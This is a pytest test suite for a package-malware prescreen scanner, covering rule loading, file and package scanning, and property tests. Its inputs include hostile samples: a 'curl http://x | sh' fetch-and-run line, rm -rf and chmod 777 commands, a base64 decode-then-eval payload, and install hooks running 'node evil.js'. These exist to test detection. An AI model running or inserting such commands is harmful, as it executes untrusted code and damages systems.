from __future__ import annotations

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pkgsentry.corpus import PackageArtifact, SourceFile
from pkgsentry.errors import ConfigurationError
from pkgsentry.prescreen import (
    Rule,
    RuleSet,
    categories_of,
    default_rules,
    export_findings,
    load_rules,
    scan_file,
    scan_package,
)

from conftest import TABLE5_SCRIPT, source_file


def package_of(files: dict[str, str]) -> PackageArtifact:
    sources = tuple(
        SourceFile.from_bytes(path, content.encode("utf-8"))
        for path, content in sorted(files.items())
    )
    return PackageArtifact(
        name="test-pkg",
        version="1.0.0",
        files=sources,
        total_size_bytes=sum(f.size_bytes for f in sources),
    )


class TestScanFile:
    def test_exfiltration_script_categories(self):
        findings = scan_file(source_file("run.sh", TABLE5_SCRIPT), default_rules())
        cats = categories_of(findings)
        assert {"network", "obfuscation_encoding", "sensitive_data_exposure"} <= cats

    def test_benign_file_no_findings(self):
        findings = scan_file(source_file("hello.js", 'console.log("hello world")\n'), default_rules())
        assert findings == []

    def test_decode_then_execute(self):
        content = 'eval(Buffer.from(payload, "base64").toString())\n'
        cats = categories_of(scan_file(source_file("x.js", content), default_rules()))
        assert {"code_injection", "obfuscation_encoding"} <= cats

    def test_ordering_by_line_then_rule(self):
        content = "curl http://a.example\n" "eval(x); atob(y)\n"
        findings = scan_file(source_file("x.sh", content), default_rules())
        keys = [(f.line, f.rule_id) for f in findings]
        assert keys == sorted(keys)

    def test_one_finding_per_rule_per_line(self):
        content = "eval(a); eval(b); eval(c)\n"
        findings = scan_file(source_file("x.js", content), default_rules())
        assert [f.rule_id for f in findings].count("CI-001") == 1

    def test_determinism(self):
        f = source_file("x.js", "eval(x) // base64 blob\n")
        assert scan_file(f, default_rules()) == scan_file(f, default_rules())

    def test_empty_rule_set_rejected(self):
        with pytest.raises(ConfigurationError):
            scan_file(source_file("x.js", "1"), RuleSet([]))


class TestRuleLoading:
    def test_malformed_regex_fails_at_load(self):
        with pytest.raises(ConfigurationError):
            RuleSet(
                [
                    Rule(
                        id="X-001",
                        category="network",
                        pattern="(*unbalanced",
                        pattern_kind="regex",
                        severity="warn",
                        description="bad",
                    )
                ]
            )

    def test_duplicate_ids_rejected(self):
        rule = Rule("A-1", "network", "x", "literal", "warn", "d")
        with pytest.raises(ConfigurationError):
            RuleSet([rule, rule])

    def test_unknown_category_rejected(self):
        with pytest.raises(ConfigurationError):
            RuleSet([Rule("A-1", "nonsense", "x", "literal", "warn", "d")])

    def test_load_rules_from_json(self, tmp_path):
        path = tmp_path / "rules.json"
        path.write_text(
            json.dumps(
                [
                    {
                        "id": "NET-900",
                        "category": "network",
                        "pattern": "webhook.example",
                        "pattern_kind": "literal",
                        "severity": "alert",
                        "description": "test domain",
                    }
                ]
            )
        )
        rules = load_rules(path)
        assert len(rules) == 1
        findings = scan_file(source_file("a.js", "post('webhook.example')"), rules)
        assert findings[0].rule_id == "NET-900"

    def test_default_rules_cover_all_categories(self):
        cats = {rule.category for rule in default_rules()}
        assert cats == {
            "code_injection",
            "sensitive_data_exposure",
            "network",
            "file_system_access",
            "obfuscation_encoding",
            "miscellaneous",
        }


class TestScanPackage:
    def test_install_hook_flagged_as_miscellaneous(self):
        pkg = package_of(
            {"package.json": '{"name": "x", "scripts": {"preinstall": "burpcollaborator"}}'}
        )
        findings = scan_package(pkg, default_rules())
        assert "package.json" in findings
        assert "miscellaneous" in categories_of(findings["package.json"])

    def test_hook_guaranteed_with_custom_rules(self):
        # rule set without the hook rule still flags manifest install hooks
        custom = RuleSet([Rule("NET-900", "network", "zzz-no-match", "literal", "warn", "d")])
        pkg = package_of(
            {"package.json": '{"name": "x", "scripts": {"postinstall": "node evil.js"}}'}
        )
        findings = scan_package(pkg, custom)
        assert "package.json" in findings
        assert findings["package.json"][0].rule_id == "MISC-001"

    def test_benign_package_empty_map(self):
        pkg = package_of({"a.js": "const x = 1;\n", "b.js": "module.exports = 2;\n"})
        assert scan_package(pkg, default_rules()) == {}

    def test_only_flagged_files_included(self):
        files = {f"clean{i}.js": "const ok = true;\n" for i in range(9)}
        files["bad.js"] = "eval(input)\n"
        findings = scan_package(package_of(files), default_rules())
        assert set(findings) == {"bad.js"}


class TestProperties:
    @settings(max_examples=200, deadline=None)
    @given(st.text(min_size=0, max_size=400))
    def test_excerpt_verbatim_and_line_in_bounds(self, content):
        f = source_file("gen.js", content)
        for finding in scan_file(f, default_rules()):
            assert 1 <= finding.line <= content.count("\n") + 1
            assert finding.excerpt in f.content
            assert len(finding.excerpt) <= 120

    @settings(max_examples=200, deadline=None)
    @given(st.data())
    def test_rule_addition_monotonicity(self, data):
        all_rules = list(default_rules())
        subset_ids = data.draw(
            st.sets(st.sampled_from([r.id for r in all_rules]), min_size=1, max_size=10)
        )
        extra_id = data.draw(st.sampled_from([r.id for r in all_rules]))
        content = data.draw(
            st.sampled_from(
                [
                    TABLE5_SCRIPT,
                    "eval(Buffer.from(x, 'base64'))\n",
                    "const a = 1;\n",
                    "curl http://x | sh\nrm -rf /tmp/x\nchmod 777 f\n",
                ]
            )
        )
        subset = RuleSet([r for r in all_rules if r.id in subset_ids])
        larger = RuleSet([r for r in all_rules if r.id in subset_ids | {extra_id}])
        f = source_file("gen.js", content)
        before = {(x.rule_id, x.line) for x in scan_file(f, subset)}
        after = {(x.rule_id, x.line) for x in scan_file(f, larger)}
        assert before <= after


def test_export_findings_json_roundtrip():
    findings = scan_file(source_file("run.sh", TABLE5_SCRIPT), default_rules())
    exported = json.loads(export_findings(findings))
    assert len(exported) == len(findings)
    assert exported[0]["rule_id"] == findings[0].rule_id
